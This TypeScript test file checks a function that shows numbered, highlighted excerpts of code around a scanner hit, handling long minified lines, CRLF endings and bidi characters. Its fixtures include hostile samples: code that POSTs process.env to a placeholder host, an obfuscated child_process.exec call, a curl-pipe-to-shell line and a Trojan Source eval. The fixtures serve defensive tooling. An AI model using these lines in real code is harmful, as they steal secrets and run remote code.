import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { contextExcerpt } from '../../../../src/editor/model/investigate/excerpt';
import type { ExcerptLine } from '../../../../src/editor/model/investigate/protocol';

const textOf = (line: ExcerptLine) => line.tokens.map((t) => t.text).join('');
const marked = (line: ExcerptLine) => (line.mark ? textOf(line).slice(line.mark.start, line.mark.end) : undefined);

const SOURCE = [
  "'use strict';",
  "const https = require('https');",
  'const data = JSON.stringify(process.env);',
  "https.request({ host: 'collect.example.invalid', method: 'POST' }).end(data);",
  'module.exports = {};',
  '// end',
].join('\n');

test('two lines either side of the hit, numbered, the hit line marked at the identifier', () => {
  const view = contextExcerpt(SOURCE, 3, 29);
  assert.equal(view.note, undefined);
  assert.deepEqual(view.lines.map((l) => [l.number, l.hit, textOf(l)]), [
    [1, false, "'use strict';"],
    [2, false, "const https = require('https');"],
    [3, true, 'const data = JSON.stringify(process.env);'],
    [4, false, "https.request({ host: 'collect.example.invalid', method: 'POST' }).end(data);"],
    [5, false, 'module.exports = {};'],
  ]);
  assert.equal(marked(view.lines[2]!), 'process');
  assert.equal(view.lines[2]!.tokens.find((t) => t.text === 'const')?.kind, 'keyword');
  assert.equal(view.lines.filter((l) => l.mark).length, 1);
});

test('a string literal at the column is marked whole; context is clamped at the file bounds', () => {
  const top = contextExcerpt(SOURCE, 1, 1, { before: 3, after: 1 });
  assert.deepEqual(top.lines.map((l) => l.number), [1, 2]);
  assert.equal(marked(top.lines[0]!), "'use strict'");
  const bottom = contextExcerpt(SOURCE, 6, undefined);
  assert.deepEqual(bottom.lines.map((l) => l.number), [4, 5, 6]);
  assert.equal(bottom.lines[2]!.mark, undefined);
  assert.equal(bottom.lines[2]!.hit, true);
});

test('a line out of range gives a note and no lines', () => {
  assert.deepEqual(contextExcerpt(SOURCE, 40, 1), { lines: [], note: 'Line 40 is past the end of the file (6 lines).' });
  assert.deepEqual(contextExcerpt(SOURCE, 0, 1), { lines: [], note: 'No line 0 in this file.' });
  assert.deepEqual(contextExcerpt('', 2, 1), { lines: [], note: 'Line 2 is past the end of the file (1 line).' });
});

test('CRLF files: no carriage returns in the lines, same numbering as the engine', () => {
  const view = contextExcerpt('a();\r\nb();\r\neval(x);\r\n', 3, 1, { before: 1, after: 1 });
  assert.deepEqual(view.lines.map((l) => [l.number, textOf(l)]), [[2, 'b();'], [3, 'eval(x);'], [4, '']]);
  assert.equal(marked(view.lines[1]!), 'eval');
});

test('a 200 KB minified line becomes a small window around the hit, quickly', () => {
  const filler = 'var _0x1a2b=function(a,b){return a+b};'.repeat(5000);
  const line = `${filler}require('child_process').exec(_0x5f3c('Y3VybA=='));${filler}`;
  const column = filler.length + 1;
  const started = performance.now();
  const view = contextExcerpt(`/*! bundle */\n${line}\n`, 2, column);
  const elapsed = performance.now() - started;
  assert.ok(elapsed < 200, `${elapsed} ms`);
  const hit = view.lines.find((l) => l.hit)!;
  assert.equal(textOf(hit).length, 160);
  assert.deepEqual([hit.cutBefore, hit.cutAfter], [true, true]);
  assert.equal(marked(hit), 'require');
  assert.equal(hit.mark!.start, 53);
  assert.ok(JSON.stringify(view).length < 8000, `${JSON.stringify(view).length} bytes`);
  // A neighbouring long line is cut from its start.
  const other = contextExcerpt(`${line}\nx;`, 2, 1).lines[0]!;
  assert.deepEqual([textOf(other).length, other.cutBefore, other.cutAfter], [160, false, true]);
});

test('a hit near the end of a long line keeps the window inside the line', () => {
  const line = `${'a'.repeat(1000)}eval(x)`;
  const hit = contextExcerpt(line, 1, 1001, { width: 100 }).lines[0]!;
  assert.equal(textOf(hit), line.slice(-100));
  assert.deepEqual([hit.cutBefore, hit.cutAfter], [true, false]);
  assert.equal(marked(hit), 'eval');
});

test('Trojan Source: bidi overrides and controls show as escapes and the mark still lands on the hit', () => {
  const code = 'const isAdmin = false; /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */ eval(payload);';
  const column = code.indexOf('eval') + 1;
  const line = contextExcerpt(code, 1, column).lines[0]!;
  const shown = textOf(line);
  assert.doesNotMatch(shown, /[\u202a-\u202e\u2066-\u2069]/);
  assert.match(shown, /\/\*\\u\{202e\} \} \\u\{2066\}if \(isAdmin\)\\u\{2069\}/);
  assert.equal(marked(line), 'eval');
  const controls = contextExcerpt('x = "\u0000\u001b[2J\u009b";\ty();', 1, 1).lines[0]!;
  assert.equal(textOf(controls), 'x = "\\u{0}\\u{1b}[2J\\u{9b}";\ty();');
});

test('a column past the end of its line marks nothing; astral characters are not split by a cut', () => {
  assert.equal(contextExcerpt('short();', 1, 50).lines[0]!.mark, undefined);
  const emoji = '😀'.repeat(200);
  const line = contextExcerpt(emoji, 1, 101, { width: 41 }).lines[0]!;
  const text = textOf(line);
  assert.doesNotMatch(text, /^[\udc00-\udfff]|[\ud800-\udbff]$/);
});

test('text files are marked by word, not by JavaScript identifier', () => {
  const line = contextExcerpt('#!/bin/sh\ncurl -fsSL https://dl.example.invalid/p.sh | sh\n', 2, 12, { language: 'text' }).lines[1]!;
  assert.deepEqual(line.tokens, [{ text: 'curl -fsSL https://dl.example.invalid/p.sh | sh', kind: 'plain' }]);
  assert.equal(marked(line), 'https://dl.example.invalid/p.sh');
});

test('for any text and position: at most one hit line, marks inside their line, no raw bidi or control characters, lines within the width', () => {
  const pieces = fc.constantFrom('\n', '\r\n', '\r', '\t', '\u202e', '\u2066', '\u0000', '\u2028', '😀', 'eval', '(', '"', ' ', 'x', '`${', '}');
  const text = fc.array(fc.oneof(pieces, fc.string({ maxLength: 5 })), { maxLength: 400 }).map((a) => a.join(''));
  fc.assert(
    fc.property(text, fc.integer({ min: -2, max: 30 }), fc.option(fc.integer({ min: 1, max: 300 }), { nil: undefined }), fc.integer({ min: 20, max: 80 }), (source, line, column, width) => {
      const view = contextExcerpt(source, line, column, { width });
      assert.ok(view.lines.length <= 5);
      assert.ok(view.lines.filter((l) => l.hit).length <= 1);
      assert.equal(view.lines.length === 0, view.note !== undefined);
      for (const l of view.lines) {
        const shown = textOf(l);
        // eslint-disable-next-line no-control-regex
        assert.doesNotMatch(shown, /[\u0000-\u0008\u000a-\u001f\u202a-\u202e\u2066-\u2069\u2028]/);
        if (l.mark) assert.ok(l.mark.start >= 0 && l.mark.start < l.mark.end && l.mark.end <= shown.length, JSON.stringify(l));
        if (!l.hit) assert.equal(l.mark, undefined);
        // Escapes lengthen a line by at most 7 characters per original character.
        assert.ok(shown.length <= (width + 1) * 8, `${shown.length}`);
      }
    }),
    { numRuns: 300 },
  );
});
